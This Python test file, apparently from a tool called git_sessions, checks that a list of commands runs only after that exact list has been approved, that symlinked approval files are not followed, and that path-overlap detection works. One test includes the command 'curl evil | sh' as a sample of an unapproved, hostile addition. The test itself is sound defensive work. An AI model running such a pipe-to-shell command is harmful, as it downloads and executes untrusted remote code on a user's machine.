"""approval: hub commands run only after this machine approved that exact list."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from git_sessions import approval
from git_sessions.errors import BadInput
from git_sessions.gitrepo.comparison import _overlap


def test_an_approval_covers_exactly_one_list(tmp_path: Path) -> None:
    commands = ["make test", "make lint"]
    assert not approval.approved(tmp_path, "verify", commands)
    with pytest.raises(BadInput, match="not approved here: make test; make lint"):
        approval.require(tmp_path, "verify", commands, yes=False)
    approval.require(tmp_path, "verify", commands, yes=True)
    approval.require(tmp_path, "verify", commands, yes=False)  # approved now
    assert not approval.approved(tmp_path, "verify", [*commands, "curl evil | sh"])
    assert not approval.approved(tmp_path, "verify", commands[::-1])
    assert not approval.approved(tmp_path, "bootstrap", commands)
    approval.require(tmp_path, "verify", [], yes=False)  # nothing to run, nothing to approve


def test_a_symlinked_approval_file_is_not_followed(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere"
    target.write_text(approval.digest("verify", ["x"]) + "\n")
    git_dir = tmp_path / "git"
    git_dir.mkdir()
    os.symlink(target, git_dir / approval.FILE)
    assert not approval.approved(git_dir, "verify", ["x"])
    with pytest.raises(OSError):
        approval.approve(git_dir, "verify", ["y"])
    assert "y" not in target.read_text()


def test_changed_paths_overlap_by_path_or_folder() -> None:
    assert _overlap(["a/b.txt"], ["a/b.txt"])
    assert _overlap(["a"], ["a/b.txt"])  # a file where the other side has a folder
    assert _overlap(["a/b/c"], ["a/b"])
    assert not _overlap(["a/b.txt"], ["a/c.txt", "b"])
    assert not _overlap([], ["x"])
